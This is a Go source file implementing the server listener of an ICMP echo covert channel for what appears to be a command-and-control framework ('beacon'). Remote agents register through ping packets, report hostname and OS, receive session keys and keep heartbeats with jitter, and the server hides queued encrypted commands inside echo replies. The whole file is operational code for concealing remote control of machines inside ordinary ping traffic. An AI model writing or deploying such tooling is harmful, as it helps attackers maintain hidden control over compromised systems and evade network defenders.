// Package icmp implements the raw-socket ICMP echo covert channel (§4.1):
// agents poll the server with ICMP echo requests carrying an
// envelope-tagged datagram in the echo body, and the server piggybacks at
// most one queued outbound frame on the matching echo reply. Unlike the
// other datagram transports, ICMP has no independent send path — a
// listener can only talk when an agent polls it — which is the one
// transport-specific constraint this adapter adds on top of the shared
// datagram pipeline (internal/pipeline) it otherwise shares with UDP.
package icmp

import (
	"crypto/rand"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"go.uber.org/zap"
	"golang.org/x/net/icmp"
	"golang.org/x/net/ipv4"

	"github.com/duskrelay/beacon/internal/aead"
	"github.com/duskrelay/beacon/internal/config"
	"github.com/duskrelay/beacon/internal/errs"
	"github.com/duskrelay/beacon/internal/fragment"
	"github.com/duskrelay/beacon/internal/frame"
	"github.com/duskrelay/beacon/internal/ids"
	"github.com/duskrelay/beacon/internal/listener"
	"github.com/duskrelay/beacon/internal/pipeline"
	"github.com/duskrelay/beacon/internal/session"
)

const (
	protocolICMP   = 1 // IANA protocol number for ICMP over IPv4
	sessionKeySize = 32
	icmpMTUBudget  = 1000 // conservative echo-body budget most paths won't fragment
	readBufferSize = 1500
)

// attachment is the ICMP session.Attachment. Write always fails: ICMP has
// no independent send path, so outbound frames are drained directly from
// the agent's queue inside handleEchoRequest instead of through this
// method — it exists only to satisfy the Attachment contract and to make
// the poll-only constraint explicit to any caller that tries to push
// through it directly.
type attachment struct {
	mu         sync.RWMutex
	addr       net.Addr
	listenerID ids.ListenerID
}

func (a *attachment) Kind() session.TransportKind { return session.TransportICMP }
func (a *attachment) ListenerID() ids.ListenerID  { return a.listenerID }
func (a *attachment) Write([]byte) error {
	return errs.New(errs.Send, "icmp.attachment.Write", "ICMP is poll-driven; sends happen opportunistically on the next echo request")
}

func (a *attachment) touch(addr net.Addr) {
	a.mu.Lock()
	a.addr = addr
	a.mu.Unlock()
}

func (a *attachment) currentAddr() net.Addr {
	a.mu.RLock()
	defer a.mu.RUnlock()
	return a.addr
}

// Listener implements listener.Listener for the ICMP transport.
type Listener struct {
	id                ids.ListenerID
	cfg               config.ICMPConfig
	ciphers           []byte
	heartbeatInterval time.Duration
	heartbeatJitter   time.Duration
	sessions          *session.Registry
	reassembler       *fragment.Reassembler
	hooks             listener.Hooks
	logger            *zap.Logger

	mu          sync.Mutex
	state       listener.State
	conn        *icmp.PacketConn
	closeCh     chan struct{}
	wg          sync.WaitGroup
	attachments map[string]*attachment

	fragmentIDCounter atomic.Uint32
}

// New constructs an ICMP listener.
func New(cfg config.ICMPConfig, cipherPreference []byte, heartbeatInterval, heartbeatJitter time.Duration, sessions *session.Registry, reassembler *fragment.Reassembler, hooks listener.Hooks, logger *zap.Logger) *Listener {
	return &Listener{
		id:                ids.NewListenerID(),
		cfg:               cfg,
		ciphers:           cipherPreference,
		heartbeatInterval: heartbeatInterval,
		heartbeatJitter:   heartbeatJitter,
		sessions:          sessions,
		reassembler:       reassembler,
		hooks:             hooks,
		logger:            logger.Named("listener.icmp"),
		state:             listener.StateCreated,
		closeCh:           make(chan struct{}),
		attachments:       make(map[string]*attachment),
	}
}

func (l *Listener) ID() ids.ListenerID          { return l.id }
func (l *Listener) Kind() session.TransportKind { return session.TransportICMP }

func (l *Listener) State() listener.State {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.state
}

// Start opens the raw ICMP socket. Requires CAP_NET_RAW (or root) in the
// deployment environment — the same privilege the spec's design notes
// call out for this transport.
func (l *Listener) Start() error {
	l.mu.Lock()
	if l.state != listener.StateCreated {
		l.mu.Unlock()
		return errs.New(errs.AlreadyRunning, "icmp.Listener.Start", "listener already started")
	}
	conn, err := icmp.ListenPacket("ip4:icmp", l.cfg.BindAddr)
	if err != nil {
		l.mu.Unlock()
		return errs.Wrap(errs.Bind, "icmp.Listener.Start", "open raw ICMP socket on "+l.cfg.BindAddr, err)
	}
	l.conn = conn
	l.state = listener.StateRunning
	l.mu.Unlock()

	l.logger.Info("icmp: listening", zap.String("addr", l.cfg.BindAddr))
	l.wg.Add(1)
	go l.readLoop()
	return nil
}

// Stop closes the raw socket and waits for the read loop to exit.
func (l *Listener) Stop() error {
	l.mu.Lock()
	if l.state != listener.StateRunning {
		l.mu.Unlock()
		return errs.New(errs.NotRunning, "icmp.Listener.Stop", "listener not running")
	}
	l.state = listener.StateStopping
	close(l.closeCh)
	conn := l.conn
	l.mu.Unlock()

	if conn != nil {
		_ = conn.Close()
	}
	l.wg.Wait()

	l.mu.Lock()
	l.state = listener.StateStopped
	l.mu.Unlock()
	return nil
}

// Destroy stops the listener if still running. Idempotent.
func (l *Listener) Destroy() error {
	if l.State() == listener.StateRunning {
		return l.Stop()
	}
	return nil
}

// Send enqueues an already-sealed, already-framed wire blob for the next
// opportunistic echo-reply flush — it does not write to the socket
// immediately since ICMP has no independent send path.
func (l *Listener) Send(agent ids.AgentID, frameBytes []byte) error {
	a, ok := l.sessions.Lookup(agent)
	if !ok {
		return errs.New(errs.NotFound, "icmp.Listener.Send", "unknown agent")
	}
	return a.SendOutbound(frameBytes)
}

func (l *Listener) nextFragmentID() uint16 {
	return uint16(l.fragmentIDCounter.Add(1))
}

func (l *Listener) readLoop() {
	defer l.wg.Done()
	buf := make([]byte, readBufferSize)
	for {
		n, peer, err := l.conn.ReadFrom(buf)
		if err != nil {
			select {
			case <-l.closeCh:
				return
			default:
			}
			l.logger.Warn("icmp: read error", zap.Error(err))
			return
		}
		msg, err := icmp.ParseMessage(protocolICMP, buf[:n])
		if err != nil {
			continue
		}
		if msg.Type != ipv4.ICMPTypeEcho {
			continue
		}
		echo, ok := msg.Body.(*icmp.Echo)
		if !ok {
			continue
		}
		l.handleEchoRequest(peer, echo)
	}
}

func (l *Listener) handleEchoRequest(peer net.Addr, echo *icmp.Echo) {
	isFragment, rest, err := pipeline.UnwrapDatagramEnvelope(echo.Data)
	if err != nil {
		return
	}
	if !isFragment {
		if f, err := frame.Parse(rest); err == nil && f.Header.Kind == frame.KindRegistration {
			l.handleRegistration(peer, echo, f)
			return
		}
	}

	agent, at, ok := l.findByAddr(peer)
	if !ok {
		l.logger.Debug("icmp: echo from unregistered source", zap.String("addr", peer.String()))
		return
	}
	at.touch(peer)

	var payload []byte
	locked := agent.Cipher()
	if locked != nil {
		aadBytes := agent.ID.Bytes()
		kind, p, err := pipeline.DecodeDatagram(locked, l.reassembler, agent.ID, aadBytes[:], echo.Data)
		if err != nil {
			l.logger.Warn("icmp: decode failure", zap.Error(err))
			if agent.RecordDecodeFailure() {
				_ = l.sessions.Disconnect(agent.ID)
			}
		} else if p != nil {
			agent.RecordDecodeSuccess()
			payload = p
			if kind == frame.KindHeartbeat {
				_ = l.sessions.OnHeartbeat(agent.ID)
			} else if l.hooks.OnMessage != nil {
				l.hooks.OnMessage(agent, payload)
			}
		}
	}

	l.flushReply(peer, echo, agent)
}

// flushReply opportunistically drains at most one queued outbound frame
// and piggybacks its first datagram fragment on the echo reply; the
// agent's next poll picks up the rest if the frame didn't fit.
func (l *Listener) flushReply(peer net.Addr, echo *icmp.Echo, agent *session.Agent) {
	var data []byte
	select {
	case wire := <-agent.Outbound():
		datagrams, err := pipeline.PacketizeDatagram(wire, icmpMTUBudget, l.nextFragmentID())
		if err == nil && len(datagrams) > 0 {
			data = datagrams[0]
		}
	default:
	}
	if data == nil {
		data = pipeline.WrapRegistrationDatagram(frame.Encode(agent.CipherMagic(), frame.KindHeartbeat, frame.HeartbeatBody()))
	}

	reply := icmp.Message{
		Type: ipv4.ICMPTypeEchoReply,
		Code: 0,
		Body: &icmp.Echo{ID: echo.ID, Seq: echo.Seq, Data: data},
	}
	wb, err := reply.Marshal(nil)
	if err != nil {
		l.logger.Warn("icmp: marshal reply failed", zap.Error(err))
		return
	}
	if _, err := l.conn.WriteTo(wb, peer); err != nil {
		l.logger.Warn("icmp: write reply failed", zap.Error(err))
	}
}

func (l *Listener) handleRegistration(peer net.Addr, echo *icmp.Echo, f *frame.Frame) {
	reg, err := frame.DecodeRegistration(f.Body)
	if err != nil {
		l.logger.Warn("icmp: malformed registration payload", zap.Error(err))
		return
	}

	at := &attachment{addr: peer, listenerID: l.id}
	agent := l.sessions.Register(ids.AgentID{}, at)

	l.mu.Lock()
	l.attachments[agent.ID.String()] = at
	l.mu.Unlock()

	magic := l.ciphers[0]
	for _, m := range l.ciphers {
		if m == f.Header.Magic {
			magic = m
			break
		}
	}
	key := make([]byte, sessionKeySize)
	if _, err := rand.Read(key); err != nil {
		l.logger.Error("icmp: session key generation failed", zap.Error(err))
		return
	}
	cipher, err := aead.ForMagic(magic, key)
	if err != nil {
		l.logger.Error("icmp: cipher init failed", zap.Error(err))
		return
	}
	locked := aead.NewLocked(cipher)

	if err := l.sessions.InstallCipher(agent.ID, locked); err != nil {
		l.logger.Error("icmp: install cipher failed", zap.Error(err))
		return
	}
	if err := l.sessions.UpdateInfo(agent.ID, reg.Hostname, reg.OSVersion, peer.String()); err != nil {
		l.logger.Error("icmp: update info failed", zap.Error(err))
		return
	}

	interval := l.heartbeatInterval
	if requested := time.Duration(reg.HeartbeatIntervalSec) * time.Second; requested >= time.Second && requested <= 86400*time.Second {
		interval = requested
	}
	if err := l.sessions.SetHeartbeat(agent.ID, interval, l.heartbeatJitter); err != nil {
		l.logger.Error("icmp: set heartbeat failed", zap.Error(err))
		return
	}

	reply := frame.EncodeRegistrationReply(frame.RegistrationReply{
		AgentID:     agent.ID.Bytes(),
		CipherMagic: magic,
		SessionKey:  key,
	})
	replyWire := pipeline.WrapRegistrationDatagram(frame.Encode(magic, frame.KindRegistrationReply, reply))

	msg := icmp.Message{
		Type: ipv4.ICMPTypeEchoReply,
		Code: 0,
		Body: &icmp.Echo{ID: echo.ID, Seq: echo.Seq, Data: replyWire},
	}
	wb, err := msg.Marshal(nil)
	if err != nil {
		l.logger.Warn("icmp: marshal registration reply failed", zap.Error(err))
		return
	}
	if _, err := l.conn.WriteTo(wb, peer); err != nil {
		l.logger.Warn("icmp: write registration reply failed", zap.Error(err))
		return
	}

	if l.hooks.OnConnect != nil {
		l.hooks.OnConnect(agent)
	}
	l.logger.Info("icmp: agent registered",
		zap.String("agent_id", agent.ID.String()),
		zap.String("hostname", reg.Hostname),
		zap.Uint8("cipher_magic", magic),
	)
}

func (l *Listener) findByAddr(addr net.Addr) (*session.Agent, *attachment, bool) {
	l.mu.Lock()
	defer l.mu.Unlock()
	for idStr, at := range l.attachments {
		cur := at.currentAddr()
		if cur != nil && cur.String() == addr.String() {
			id, err := ids.ParseAgentID(idStr)
			if err != nil {
				continue
			}
			agent, ok := l.sessions.Lookup(id)
			if !ok {
				continue
			}
			return agent, at, true
		}
	}
	return nil, nil, false
}
